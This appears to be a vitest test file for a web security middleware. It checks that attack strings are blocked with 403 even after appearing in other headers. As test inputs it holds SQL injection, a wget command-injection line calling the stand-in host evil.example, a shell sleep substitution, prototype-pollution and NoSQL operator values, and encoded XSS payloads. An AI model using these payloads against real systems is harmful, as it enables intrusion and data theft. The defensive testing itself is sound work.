import express from 'express'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Kit, listen, openKit } from '../../../test/adapters/site.ts'

let kit: Kit
let site: Awaited<ReturnType<typeof listen>>
beforeAll(async () => {
  kit = await openKit({ detection: { mode: 'block' } })
  const app = kit.security.protect(express())
  app.get('/items', kit.security.open(), (_request, response) => void response.json({}))
  site = await listen(app)
})
afterAll(async () => {
  await site.stop()
  await kit.close()
})

const statusOf = async (path: string, headers: Record<string, string> = {}) =>
  (await site.fetch(path, { headers })).status
const remembered = ['user-agent', 'referer', 'origin', 'content-type', 'x-requested-with']

describe('what was harmless in one place proves nothing of another', () => {
  it.each([
    '/items?q=1%27%20union%20select%20password%20from%20users--',
    '/items?q=1%27+union+select+password+from+users--',
    '/items?q=%3Bwget+http://evil.example/x+-O+/tmp/x',
    '/items?q=%24%28sleep+10%29',
    '/items?__proto__[x]=1',
    '/items?q[$ne]=1',
  ])('the target %s is refused, though every header held it before', async (target) => {
    for (const name of remembered) await statusOf('/items', { [name]: target })
    expect(await statusOf(target)).toBe(403)
  })

  it('a header is refused, though another one that is read otherwise held its text', async () => {
    const referer = 'https://a.example/?q=%2525253Cscript%2525253Ealert(1)'
    expect(await statusOf('/items', { referer: 'https://a.example/%253Cscript%253E' })).toBe(403)
    for (const name of remembered) {
      const others = remembered.filter((one) => one !== name)
      for (const text of [referer, 'https://a.example/%253Cimg src=x onerror=alert(1)%253E']) {
        const alone = await statusOf('/items', { [name]: `${text}#${name}` })
        for (const one of others) await statusOf('/items', { [one]: `${text}#other-${name}` })
        expect(await statusOf('/items', { [name]: `${text}#other-${name}` })).toBe(alone)
      }
    }
  })
})
